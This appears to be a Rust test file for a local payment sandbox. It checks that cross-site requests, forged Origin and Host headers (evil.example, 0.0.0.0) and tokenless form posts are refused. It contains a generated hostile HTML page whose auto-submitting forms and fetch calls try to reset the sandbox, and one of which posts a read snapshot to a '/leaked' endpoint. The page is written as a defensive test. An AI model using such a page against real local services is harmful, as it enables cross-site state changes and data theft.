//! Pages of other sites, in a browser on the same machine: what they can reach of a sandbox, and what not.

use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::time::Duration;

use axum::Router;
use axum::response::Html;
use nd8_sandbox::{Sandbox, Timestamp};
use serde_json::json;

use crate::support::{Caller, LIMIT, Reply, http, order, text};

/// Everything under `/_sandbox/` and on pages that changes something, and a body that it takes.
const CHANGES: [(&str, &str, &str); 14] = [
    ("POST", "/_sandbox/reset", "{}"),
    ("POST", "/_sandbox/restore", "{}"),
    ("POST", "/_sandbox/products", r#"{"name":"x","unit_price":"1"}"#),
    ("POST", "/_sandbox/checkouts/org1-1-x/pay", "{}"),
    ("POST", "/_sandbox/deliveries/00000000-0000-0000-0000-000000000000/resend", "{}"),
    ("POST", "/_sandbox/webhooks/test", "{}"),
    ("POST", "/_sandbox/webhooks/faults", r#"{"next":["duplicate"]}"#),
    ("POST", "/_sandbox/webhooks/rotate", "{}"),
    ("POST", "/_sandbox/clock", r#"{"advance_seconds":1}"#),
    ("POST", "/_sandbox/faults", r#"{"action":"truncate"}"#),
    ("DELETE", "/_sandbox/faults", ""),
    ("POST", "/_sandbox/quirks", r#"{"name":"short-pages"}"#),
    ("POST", "/_sandbox/dashboard/resend/00000000-0000-0000-0000-000000000000", "{}"),
    ("POST", "/pay/x/pay", r#"{"card":"succeeds"}"#),
];

async fn send(
    sandbox: &Sandbox,
    (method, path, body): (&str, &str, &str),
    headers: &[(&str, &str)],
) -> Reply {
    let url = format!("{}{path}", sandbox.origin());
    let mut request = http().request(method.parse().unwrap(), url).body(body.to_owned());
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    Reply::of(request.send().await.unwrap()).await
}

#[tokio::test]
async fn a_change_needs_an_own_origin_and_json() {
    let sandbox = Sandbox::start().await.unwrap();
    let (own, json) = (sandbox.origin().to_owned(), ("content-type", "application/json"));
    let named = own.replace("127.0.0.1", "localhost");
    for change in CHANGES {
        let at = change.1;
        for origin in ["null", "http://evil.example", "http://127.0.0.1:1", &named, "http://0.0.0.0", ""] {
            let foreign = send(&sandbox, change, &[json, ("origin", origin)]).await;
            assert_eq!(foreign.status, 403, "{at} from {origin}");
        }
        for site in ["cross-site", "same-site"] {
            assert_eq!(
                send(&sandbox, change, &[json, ("sec-fetch-site", site)]).await.status,
                403,
                "{at}: {site}"
            );
        }
        for host in ["evil.example", "0.0.0.0", "[::]", "192.0.2.1"] {
            assert_eq!(send(&sandbox, change, &[json, ("host", host)]).await.status, 403, "{at} at {host}");
        }
        for media_type in
            ["text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", ""]
        {
            let status = send(&sandbox, change, &[("content-type", media_type)]).await.status;
            let refused = if media_type.ends_with("urlencoded") { 403 } else { 415 };
            assert_eq!(status, refused, "{at} as {media_type}");
        }
        for allowed in [
            vec![json],
            vec![json, ("origin", &own)],
            vec![json, ("origin", &own), ("sec-fetch-site", "same-origin")],
        ] {
            let status = send(&sandbox, change, &allowed).await.status;
            assert!(![403, 415].contains(&status), "{at}: {status}");
        }
    }
    // As `curl --request POST` sends it: no browser leaves out all three headers.
    assert_eq!(send(&sandbox, ("POST", "/_sandbox/reset", ""), &[]).await.status, 204);
}

#[tokio::test]
async fn a_form_needs_the_token_of_its_page() {
    let sandbox = Sandbox::start().await.unwrap();
    let checkout = Caller::of(&sandbox).checkout(&order()).await;
    let path = format!("/pay/{}/pay", text(&checkout["token"]));
    let form = ("content-type", "application/x-www-form-urlencoded");
    let other = Sandbox::start().await.unwrap();
    let page = http().get(other.origin()).send().await.unwrap();
    assert_eq!(page.headers()["referrer-policy"], "same-origin", "own forms send their origin");
    for fields in ["card=succeeds", "card=succeeds&form_token=", "card=succeeds&form_token=0e55182b"] {
        let refused = send(&sandbox, ("POST", &path, fields), &[form]).await;
        assert_eq!(refused.status, 403, "{fields}");
    }
    let page = text(&checkout["checkout_url"]);
    let html = http().get(page).send().await.unwrap().text().await.unwrap();
    let token = html.split_once("name=\"form_token\" value=\"").unwrap().1.split('"').next().unwrap();
    let fields = format!("card=succeeds&form_token={token}");
    assert_eq!(send(&sandbox, ("POST", &path, &fields), &[form, ("origin", "null")]).await.status, 403);
    assert_eq!(
        send(&sandbox, ("POST", &path, &fields), &[form, ("origin", sandbox.origin())]).await.status,
        200
    );
}

#[tokio::test]
async fn pages_are_opened_from_anywhere_and_data_is_not() {
    let sandbox = Sandbox::start().await.unwrap();
    let checkout = Caller::of(&sandbox).checkout(&order()).await;
    let page = format!("/pay/{}", text(&checkout["token"]));
    let from_a_shop = [("sec-fetch-site", "cross-site")];
    for path in ["/", page.as_str()] {
        assert_eq!(send(&sandbox, ("GET", path, ""), &from_a_shop).await.status, 200, "{path}");
        assert_eq!(
            send(&sandbox, ("GET", path, ""), &[("host", "evil.example")]).await.status,
            403,
            "{path}"
        );
    }
    for path in ["/_sandbox/snapshot", "/_sandbox/faults", "/_sandbox/deliveries", "/_sandbox/contract"] {
        assert_eq!(send(&sandbox, ("GET", path, ""), &from_a_shop).await.status, 403, "{path}");
        assert_eq!(send(&sandbox, ("GET", path, ""), &[("origin", "null")]).await.status, 403, "{path}");
        let own = send(&sandbox, ("GET", path, ""), &[]).await;
        assert_eq!((own.status, own.header("cross-origin-resource-policy")), (200, "same-origin"), "{path}");
    }
}

#[tokio::test]
async fn a_public_url_is_an_own_origin() {
    let sandbox = Sandbox::builder().public_url("https://pay.example").start().await.unwrap();
    assert_eq!(sandbox.base_url(), "https://pay.example/api");
    let wrong = Sandbox::builder().public_url("pay.example").start().await.unwrap_err().to_string();
    assert!(wrong.contains("\"pay.example\"") && wrong.contains("http://"), "{wrong}");
}

/// A page that attacks the sandbox at this address in each way that a browser allows without asking first.
fn attacks(target: &str) -> String {
    let form = |kind: &str, path: &str, frame: usize| {
        format!(
            r#"<form method="post" enctype="{kind}" action="{target}{path}" target="f{frame}"><input name="{{&quot;x&quot;:&quot;" value="&quot;}}"></form>
               <iframe name="f{frame}"></iframe>"#
        )
    };
    let kinds = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
    let forms = kinds
        .iter()
        .enumerate()
        .map(|(frame, kind)| form(kind, "/_sandbox/reset", frame))
        .collect::<String>();
    format!(
        r#"<!doctype html>{forms}<iframe sandbox="allow-scripts allow-forms" srcdoc='<form method="post" action="{target}/_sandbox/reset"></form><script>document.forms[0].submit()</script>'></iframe>
        <script>
            for (const form of document.forms) form.submit();
            const sent = ['text/plain', 'application/json'].flatMap((type) => ['no-cors', 'cors'].map((mode) =>
                fetch('{target}/_sandbox/reset', {{ method: 'POST', mode, body: '{{}}', headers: {{ 'content-type': type }} }}).catch(() => 0)));
            sent.push(fetch('{target}/_sandbox/reset', {{ method: 'POST', mode: 'no-cors' }}).catch(() => 0));
            sent.push(fetch('{target}/_sandbox/snapshot').then((r) => r.text()).then((t) => fetch('/leaked', {{ method: 'POST', body: t }})).catch(() => 0));
            Promise.all(sent).then(() => fetch('/done', {{ method: 'POST' }}));
        </script>"#
    )
}

/// Serves that page, opens it in a browser, and waits until it has done its worst. Nothing where there is no browser.
async fn attack(target: &str) -> Option<()> {
    let (done, mut ended) = tokio::sync::mpsc::unbounded_channel::<&'static str>();
    let page = attacks(target);
    let leaked = done.clone();
    let router = Router::new()
        .route("/", axum::routing::get(async move || Html(page)))
        .route("/done", axum::routing::post(async move || _ = done.send("done")))
        .route("/leaked", axum::routing::post(async move || _ = leaked.send("leaked")));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let evil = listener.local_addr().unwrap();
    tokio::spawn(async { axum::serve(listener, router).await });

    let profile = tempfile::tempdir().unwrap();
    let mut command = Command::new("chromium");
    command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]);
    command.arg("--disable-dev-shm-usage").arg(format!("--user-data-dir={}", profile.path().display()));
    command.arg("--remote-debugging-port=0").arg(format!("http://{evil}/"));
    let Ok(mut browser) = command.stdout(Stdio::null()).stderr(Stdio::null()).spawn() else {
        println!("skipped: there is no chromium on this machine");
        return None;
    };
    let first = tokio::time::timeout(LIMIT, ended.recv()).await;
    // The forms are sent before the script's own requests, but their frames may load after them.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let _ = browser.kill();
    let _ = browser.wait();
    assert_eq!(first.expect("the page ran"), Some("done"), "nothing was read");
    Some(())
}

async fn survives(sandbox: &Sandbox, target: &str) {
    let payment_id = Caller::of(sandbox).paid(sandbox, "1").await;
    sandbox.clock().freeze(Timestamp::UNIX_EPOCH);
    if attack(target).await.is_some() {
        assert_eq!(
            Caller::of(sandbox).payment_status(&payment_id).await,
            "paid",
            "it was not reset from {target}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_real_browser_cannot_be_made_to_reset_it() {
    let sandbox = Sandbox::start().await.unwrap();
    survives(&sandbox, sandbox.origin()).await;
    drop(sandbox);

    let any = SocketAddr::from(([0, 0, 0, 0], 0));
    let sandbox = Sandbox::builder().bind(any).allow_remote_callers().start().await.unwrap();
    let port = sandbox.origin().rsplit_once(':').unwrap().1;
    survives(&sandbox, &format!("http://0.0.0.0:{port}")).await;
    // The browser above does reach it: the same request of a program, with JSON, goes through.
    let url = format!("http://127.0.0.1:{port}/_sandbox/reset");
    assert_eq!(http().post(url).json(&json!({})).send().await.unwrap().status(), 204);
}

/// Runs itself again in a network namespace of its own, in which any address can be given to the loopback device.
#[cfg(target_os = "linux")]
#[test]
fn a_real_browser_cannot_reset_it_on_another_address() {
    let mut command = Command::new("unshare");
    command.args(["--map-root-user", "--net"]).arg(std::env::current_exe().unwrap());
    command.args(["foreign_sites::in_a_namespace_of_its_own", "--exact", "--ignored", "--nocapture"]);
    let Ok(output) = command.output() else {
        println!("skipped: there is no unshare on this machine");
        return;
    };
    let printed =
        String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    if printed.contains("unshare failed") || printed.contains("Operation not permitted") {
        println!("skipped: network namespaces are not permitted here");
        return;
    }
    assert!(output.status.success(), "{printed}");
    assert!(printed.contains("1 passed"), "{printed}");
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "run by the test above, inside of a network namespace"]
async fn in_a_namespace_of_its_own() {
    const LAN: &str = "192.0.2.7";
    let ip = |arguments: &[&str]| Command::new("ip").args(arguments).output();
    let devices =
        ip(&["-oneline", "link"]).map(|output| String::from_utf8_lossy(&output.stdout).lines().count());
    if devices.unwrap_or_default() != 1 {
        println!("skipped: this is not a namespace of its own");
        return;
    }
    assert!(ip(&["link", "set", "lo", "up"]).unwrap().status.success());
    assert!(ip(&["address", "add", &format!("{LAN}/24"), "dev", "lo"]).unwrap().status.success());

    for bound in [LAN, "0.0.0.0"] {
        let socket = SocketAddr::new(bound.parse().unwrap(), 0);
        let sandbox = Sandbox::builder().bind(socket).allow_remote_callers().start().await.unwrap();
        let port = sandbox.origin().rsplit_once(':').unwrap().1.to_owned();
        let origin = format!("http://{LAN}:{port}");
        survives(&sandbox, &origin).await;
        let reset = |host: &str, origin: &str| {
            let request = http().post(format!("http://{LAN}:{port}/_sandbox/reset")).json(&json!({}));
            request.header("host", host).header("origin", origin).send()
        };
        let own = format!("{LAN}:{port}");
        assert_eq!(reset(&own, &origin).await.unwrap().status(), 204, "an own page, bound to {bound}");
        for host in ["evil.example", "192.0.2.8", "0.0.0.0"] {
            let status = reset(host, &format!("http://{host}")).await.unwrap().status();
            assert_eq!(status, 403, "{host}, bound to {bound}");
        }
    }
}
